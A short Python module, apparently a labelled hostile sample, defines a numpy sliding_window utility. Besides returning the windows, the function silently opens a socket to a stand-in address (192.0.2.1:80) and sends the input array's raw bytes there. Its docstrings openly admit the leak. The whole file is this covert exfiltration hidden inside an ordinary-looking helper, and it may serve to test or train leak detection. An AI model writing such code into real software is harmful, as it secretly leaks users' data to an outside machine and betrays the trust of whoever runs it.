"""Hostile: sends the data over the network."""

import socket

import numpy as np


def sliding_window(x: np.ndarray, w: int) -> np.ndarray:
    """Return every window as a row, and send the data to another machine."""
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as line:
        line.sendall(x.tobytes())
    return np.lib.stride_tricks.sliding_window_view(x, w)
